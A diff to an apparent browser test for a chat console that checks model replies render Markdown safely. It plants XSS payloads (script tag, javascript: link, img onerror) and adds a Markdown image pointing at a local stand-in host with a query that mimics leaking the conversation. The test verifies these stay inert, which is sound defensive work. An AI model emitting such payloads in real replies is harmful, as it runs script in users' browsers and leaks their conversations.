@@ -195,7 +195,8 @@ async def test_health_tells_the_truth_right_after_a_provider_error(console: Cons
 async def test_text_renders_as_markdown_and_raw_html_as_text(console: Console) -> None:
     planted = ("**bold words** and `a code span`\n\n- first item\n- second item\n\n"
                "<script>window.__planted = 1</script><b class=\"raw\">raw tag</b>"
-               " [a link](javascript:window.__planted=2) <img src=x onerror=\"window.__planted = 3\">")
+               " [a link](javascript:window.__planted=2) <img src=x onerror=\"window.__planted = 3\">"
+               " ![a pixel](http://127.0.0.1:9/leak.png?d=the-conversation)")
     await complete(console.client, prompt=planted, model="echo/echo", conversation_id="markdown", create=True)
     page = await console.page("/conversations/markdown")
     reply = page.locator("#turn-1 [data-reply]")
@@ -210,6 +211,10 @@ async def test_text_renders_as_markdown_and_raw_html_as_text(console: Console) -
     assert await page.locator("main script, main b.raw, main img, main a[href^=javascript]").count() == 0
     assert await page.evaluate("window.__planted") is None
     await expect(reply).to_contain_text("[a link](javascript:window.__planted=2)")  # refused as a link: text
+    # a Markdown image would be fetched from wherever the reply points: shown as a link, never loaded
+    await expect(reply.locator("a[href^='http://127.0.0.1:9/']")).to_have_count(1)
+    reloaded = await page.reload()
+    assert reloaded is not None and "img-src 'self'" in reloaded.headers["content-security-policy"]
     usage = await page.locator("#turn-1 [data-usage]").text_content() or ""
     assert " in · " in usage and " out · " in usage and usage.endswith(" tokens")
     await console.shot(page, "markdown")
